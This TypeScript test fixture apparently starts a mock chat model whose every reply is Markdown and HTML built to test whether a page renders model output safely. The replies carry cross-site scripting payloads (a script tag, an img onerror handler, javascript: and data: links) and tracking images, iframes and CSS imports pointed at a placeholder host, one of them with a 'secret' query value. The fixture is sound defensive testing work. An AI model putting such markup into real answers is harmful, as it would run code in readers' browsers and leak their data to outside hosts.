import { LLMock } from '@copilotkit/aimock';

/** Where an answer would like its reader's browser to go. Nothing is there: it is enough that nobody asks. */
export const trackerUrl = 'http://tracker.invalid';

/** All that Markdown and HTML can do to fetch something or to run, beside what an honest answer has. */
const answerTo = (words: string) => `You wrote “${words}”.

## What an answer may hold

![a pixel](${trackerUrl}/pixel.png?said=secret)
![by reference][pixel] and <${trackerUrl}/auto> and [a link](${trackerUrl}/link "with a title").

<img src="${trackerUrl}/html.png" onerror="globalThis.hacked = true">
<script>globalThis.hacked = true</script>
<iframe src="${trackerUrl}/frame"></iframe><link rel="preload" as="image" href="${trackerUrl}/preload">
<style>@import url(${trackerUrl}/style.css); * { display: none }</style>

[run](javascript:globalThis.hacked=true) and [data](data:text/html,<script>globalThis.hacked=true</script>)

| Step | Where |
| --- | --- |
| Send | ![in a table](${trackerUrl}/cell.png) |

\`\`\`ts
const answer: number = 42;
\`\`\`

[pixel]: ${trackerUrl}/reference.png

The end.`;

/** Starts a model that answers everything with what a page would rather not be given. */
export async function startHostileModel(): Promise<{ url: string; stop(): Promise<void> }> {
  const mock = new LLMock({ port: 0, host: '127.0.0.1', logLevel: 'silent', chunkSize: 24 });
  mock.on({ predicate: () => true }, ({ messages }) => {
    const content = messages.findLast(({ role }) => role === 'user')?.content;
    return { content: answerTo(typeof content === 'string' ? content : '') };
  });
  await mock.start();
  return { url: mock.url, stop: () => mock.stop() };
}
